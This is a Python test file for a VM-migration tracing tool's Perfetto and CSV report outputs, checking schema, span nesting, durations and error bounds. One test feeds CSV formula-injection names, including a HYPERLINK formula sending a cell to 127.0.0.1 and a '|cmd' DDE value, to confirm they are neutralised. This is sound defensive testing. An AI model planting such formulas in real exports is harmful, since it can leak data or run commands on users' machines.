#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Reports as trace events and as CSV: well-formed, and with the numbers of the JSON report."""
import csv
import io
import json
import pathlib
import subprocess
import sys
import tempfile

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent))
from recorder import BUILD
from tap import Tap

REPLAY = pathlib.Path(__file__).parent.parent / "replay"
KINDS = sorted(path for path in REPLAY.iterdir() if path.is_dir())
MIGTRACE = BUILD / "sanitized/migtrace"
WORK = ("on_cpu", "runnable", "throttled", "slept", "held", "starved")  # of a part's threads
DEVICES = [REPLAY / "devices/1-a.jsonl", REPLAY / "devices/1-b.jsonl"]
FIGURES = ["elapsed", "elapsed_net", "transfer", "downtime", "downtime_net", "blackout",
           "network_in", "network_out", "disk_blackout", "brownout_before", "brownout_after",
           "tsc_lag", "kvmclock_lag", "announced"]
HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'


def report(form, *files):
    done = subprocess.run([MIGTRACE, "report", "--format", form, *files], capture_output=True,
                          check=False)
    assert b"Sanitizer" not in done.stderr and b"runtime error" not in done.stderr, done.stderr
    return done.stdout.decode()


def reports(*files):
    return [json.loads(line) for line in report("json", *files).split("\n") if line]


def ns(us):
    """Exact: the events' numbers are read as text."""
    whole, _, part = us.partition(".")
    assert len(part) == 3, us
    return int(whole) * 1000 + int(part)


def events_of(text):
    return json.loads(text, parse_float=str)["traceEvents"]


def schema_faults(events):
    """What the trace event format wants of each event."""
    faults = []
    named = {(e["pid"], e.get("tid")) for e in events if e["ph"] == "M" and
             e["name"] in ("process_name", "thread_name") and e["args"]["name"]}
    for event in events:
        wanted = {"X": {"name", "ph", "pid", "tid", "ts", "dur", "args"},
                  "i": {"name", "ph", "pid", "tid", "ts", "s", "args"},
                  "M": {"name", "ph", "pid", "args"}}[event["ph"]]
        if not wanted <= set(event) or not event["name"]:
            faults.append(("keys", event))
        elif event["ph"] != "M" and (ns(event["ts"]) < 0 or ns(event.get("dur", "0.000")) < 0):
            faults.append(("negative", event))
        elif event["ph"] != "M" and not {(event["pid"], event["tid"]),
                                         (event["pid"], None)} <= named:
            faults.append(("no name for its thread or process", event))
    return faults


def nesting_faults(events):
    """On one thread a span is within another, or apart from it."""
    faults, threads = [], {}
    for event in events:
        if event["ph"] == "X":
            span = (ns(event["ts"]), ns(event["ts"]) + ns(event["dur"]), event["name"])
            threads.setdefault((event["pid"], event["tid"]), []).append(span)
    for spans in threads.values():
        stack = []
        for span in sorted(spans, key=lambda span: (span[0], -span[1])):
            while stack and stack[-1][1] <= span[0]:
                stack.pop()
            if stack and span[1] > stack[-1][1]:
                faults.append((stack[-1], span))
            stack.append(span)
    return faults


def tracks(events, pid=None):
    """The spans of each track, by its name, in order of time."""
    names = {(e["pid"], e["tid"]): e["args"]["name"] for e in events
             if e["ph"] == "M" and e["name"] == "thread_name"}
    found = {}
    for event in events:
        if event["ph"] == "X" and pid in (None, event["pid"]):
            found.setdefault(names[event["pid"], event["tid"]], []).append(event)
    return found


def half_width(quantity):
    return max(quantity["hi_ns"] - quantity["est_ns"], quantity["est_ns"] - quantity["lo_ns"])


def number_faults(events, m):
    """Durations and errors in the picture, beside those of the JSON report."""
    found, faults = tracks(events), []
    figures = {e["name"]: e for e in found.get("figures", [])}
    for name in ("elapsed", "downtime", "blackout"):
        shown, figure = figures.get(name), m[name]
        if shown and "unknown" in figure:
            faults.append((name, shown, figure))
        if not shown and "unknown" not in figure and m["source"]:
            faults.append((name, "is not there"))
        if shown and (ns(shown["dur"]), shown["args"]["ns"], shown["args"]["error_ns"]) != \
                (figure["est_ns"], figure["est_ns"], half_width(figure)):
            faults.append((name, shown, figure))
    for side, pid in (("source", 1), ("destination", 2)):
        wanted = [d["ns"] for d in m["devices"] if d["side"] == side]
        if [ns(e["dur"]) for e in tracks(events, pid).get("devices", [])] != wanted:
            faults.append(("devices", side))
    for vcpu in m["vcpus"]:
        shown = [(ns(e["dur"]), e["args"]["error_ns"]) for e in found.get(f"vCPU {vcpu['index']}", [])]
        wanted = vcpu["blackout"]
        if shown != ([] if "unknown" in wanted else [(wanted["est_ns"], half_width(wanted))]):
            faults.append(("vcpu", shown, wanted))
    return faults + part_faults(found.get("standstill", []), figures, m)


def part_faults(parts, figures, m):
    """The standstill's parts are adjacent, and the downtime's begin and end with it."""
    faults = []
    for before, after in zip(parts, parts[1:]):
        if ns(before["ts"]) + ns(before["dur"]) != ns(after["ts"]) and m["clock"]["offset"].get(
                "est_ns") is not None:
            faults.append(("gap", before, after))
    shown = [(e["name"], e["args"]["ns"], e["args"]["error_ns"]) for e in parts]
    wanted = [(p["name"], p["duration"]["est_ns"], half_width(p["duration"])) for p in m["breakdown"]]
    at = next((i for i in range(len(shown) + 1) if shown[i:i + len(wanted)] == wanted), None)
    if at is None:
        return faults + [("parts", shown, wanted)]
    for event, part in zip(parts[at:], m["breakdown"]):
        if {key: event["args"].get(key) for key in WORK} != {key: part.get(key) for key in WORK}:
            faults.append(("what threads did", event, part))
    if wanted and "downtime" in figures:
        first, last, whole = parts[at], parts[at + len(wanted) - 1], figures["downtime"]
        ends = [ns(first["ts"]), ns(last["ts"]) + ns(last["dur"])]
        if ends != [ns(whole["ts"]), ns(whole["ts"]) + ns(whole["dur"])]:
            faults.append(("begin or end", ends, whole))
        if abs(last["args"]["end_error_ns"] - whole["args"]["end_error_ns"]) > 1:
            faults.append(("error", last, whole))
    return faults


def trace_of_kind(tap, directory):
    files = sorted(directory.glob("*.jsonl"))
    all_reports, text = reports(*files), report("perfetto", *files)
    name = f"{directory.name}: trace events"
    if not all_reports:
        tap.equal(f"{name}: none, as it is no migration", text, "")
        return
    events = events_of(text)
    tap.equal(f"{name}: the schema", schema_faults(events), [])
    tap.equal(f"{name}: spans are within each other or apart", nesting_faults(events), [])
    for index, m in enumerate(all_reports):
        own = [{**e, "pid": e["pid"] - 2 * index} for e in events
               if e["pid"] in (2 * index + 1, 2 * index + 2)]
        tap.equal(f"{name}: the numbers of {m['domain']['name']}", number_faults(own, m), [])


def trace_of_steps(tap):
    """A migration of which all is probed: what is on which track."""
    events = events_of(report("perfetto", *DEVICES))
    source, destination = tracks(events, 1), tracks(events, 2)
    names = [[e["name"] for e in side["libvirt"] if not e["name"].startswith("QMP")]
             for side in (source, destination)]
    tap.equal("libvirt's functions", names, [["Perform", "Run", "Complete"],
                                             ["Prepare", "Finish", "StartCPUs"]])
    replies = [json.loads(line) for line in DEVICES[0].read_text().splitlines() if "monitor-reply" in line]
    tap.equal("QMP commands, from send to reply",
              [(e["name"], ns(e["dur"])) for e in source["libvirt"] if e["name"].startswith("QMP")],
              [(f"QMP {r['command']}", r["ktime_ns"] - r["sent_ktime_ns"]) for r in replies])
    tap.equal("QEMU's states", [e["name"] for e in source["QEMU"]],
              ["setup", "active", "pre-switchover", "device"])
    tap.equal("passes over RAM", [e["name"] for e in source["RAM passes"]], ["pass 1", "pass 2"])
    tap.equal("devices", [len(side["devices"]) for side in (source, destination)], [29, 29])
    steps = {e["name"] for e in events if e["ph"] == "i" and e["pid"] == 1}
    tap.true("steps are instants", {"stop-decided", "last-ram", "vcpu-stop CPU 0/KVM"} <= steps, steps)
    offset = reports(*DEVICES)[0]["clock"]["offset"]
    finish = next(e for e in destination["libvirt"] if e["name"] == "Finish")
    tap.equal("a span of one clock is exact", {e["args"]["at_error_ns"] for e in source["libvirt"]}, {0})
    # By how much the clocks' rates may have differed since the hand-over: a thousandth of the way.
    drift = finish["args"]["at_error_ns"] - half_width(offset)
    tap.true("one that is mapped has the offset's half width and the clocks' drift as its error",
             -1 <= drift <= half_width(offset) // 100 and
             finish["args"]["error_ns"] == 0, (finish, offset))
    sent = next(e for e in source["libvirt"] if e["name"] == "Perform")
    theta = finish["args"]["clock_ns"] - sent["args"]["clock_ns"] - \
        (ns(finish["ts"]) - ns(sent["ts"]))
    tap.true("it is where the offset puts it", abs(theta - offset["est_ns"]) <= 1, (theta, offset))


def trace_of_one_host(tap):
    events = events_of(report("perfetto", DEVICES[1]))
    tap.equal("one host alone: its tracks, and no others", ({e["pid"] for e in events}, sorted(
        tracks(events))), ({2}, ["QEMU", "devices", "libvirt", "standstill"]))
    tap.equal("one host alone: no error", {e["args"]["at_error_ns"] for e in events
                                           if e["ph"] == "X"}, {0})
    tap.equal("one host alone: it begins at 0", min(ns(e["ts"]) for e in events if e["ph"] == "X"), 0)


def csv_rows(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def csv_of_all(tap):
    files = sorted(REPLAY.glob("*/*.jsonl"))
    text = report("csv", *files)
    rows, all_reports = csv_rows(text), reports(*files)
    tap.equal("CSV: a line for each migration", len(rows), len(all_reports) + 1)
    tap.equal("CSV: lines end as RFC 4180 has it", text.count("\r\n"), text.count("\n"))
    tap.equal("CSV: as many fields as heads", {len(row) for row in rows}, {len(rows[0])})
    bad = []
    for row, m in zip(rows[1:], all_reports):
        got = dict(zip(rows[0], row))
        for name in FIGURES + ["clock_offset"]:
            figure = m["clock"]["offset"] if name == "clock_offset" else m[name]
            wanted = ["", "", "", figure["unknown"]] if "unknown" in figure else [
                *(f"{'-' * (n < 0)}{abs(n) // 10**6}.{abs(n) % 10**6:06}" for n in
                  (figure["est_ns"], figure["lo_ns"], figure["hi_ns"])), ""]
            if [got[f"{name}{end}"] for end in ("_ms", "_lo_ms", "_hi_ms", "_unknown")] != wanted:
                bad.append((m["domain"], name, got, wanted))
        longest = max(m["breakdown"], key=lambda p: p["duration"]["est_ns"], default=None)
        if (got["uuid"], got["name"], got["outcome"]) != \
                (m["domain"]["uuid"], m["domain"]["name"] or "", m["outcome"]) or \
                got["longest_part"] != (longest["name"] if longest else ""):
            bad.append(got)
    tap.equal("CSV: the numbers of the JSON report", bad, [])


def csv_hostile(tap):
    with tempfile.TemporaryDirectory() as directory:
        path = pathlib.Path(directory) / "hostile"
        bad = []
        for name in (HOSTILE, "+1", "-1+1|cmd", "@SUM(1)", "\t=1", "a\nb", 'q"uo,te', "\r=1"):
            cookie = name.replace("&", "&amp;").replace('"', "&quot;")
            path.write_text(DEVICES[0].read_text().replace(
                "<name>devices<", f"<name>{json.dumps(cookie)[1:-1]}<"))
            rows = csv_rows(report("csv", path, DEVICES[1]))
            field = rows[1][1]
            shown = "".join("?" if c < " " else c for c in name)
            wanted = ("'" if name[0] in "=+-@\t\r\n" else "") + shown
            if len(rows) != 2 or field != wanted:
                bad.append((name, field, wanted))
        tap.equal("CSV: names cannot be formulas, or end their field", bad, [])


def nothing(tap):
    for form in ("html", "perfetto", "csv"):
        tap.equal(f"{form}: nothing where there is no migration", report(form, "/dev/null"), "")


def main():
    tap = Tap()
    for directory in KINDS:
        tap.run(trace_of_kind, directory)
    tap.run(trace_of_steps)
    tap.run(trace_of_one_host)
    tap.run(csv_of_all)
    tap.run(csv_hostile)
    tap.run(nothing)
    tap.end()


if __name__ == "__main__":
    main()
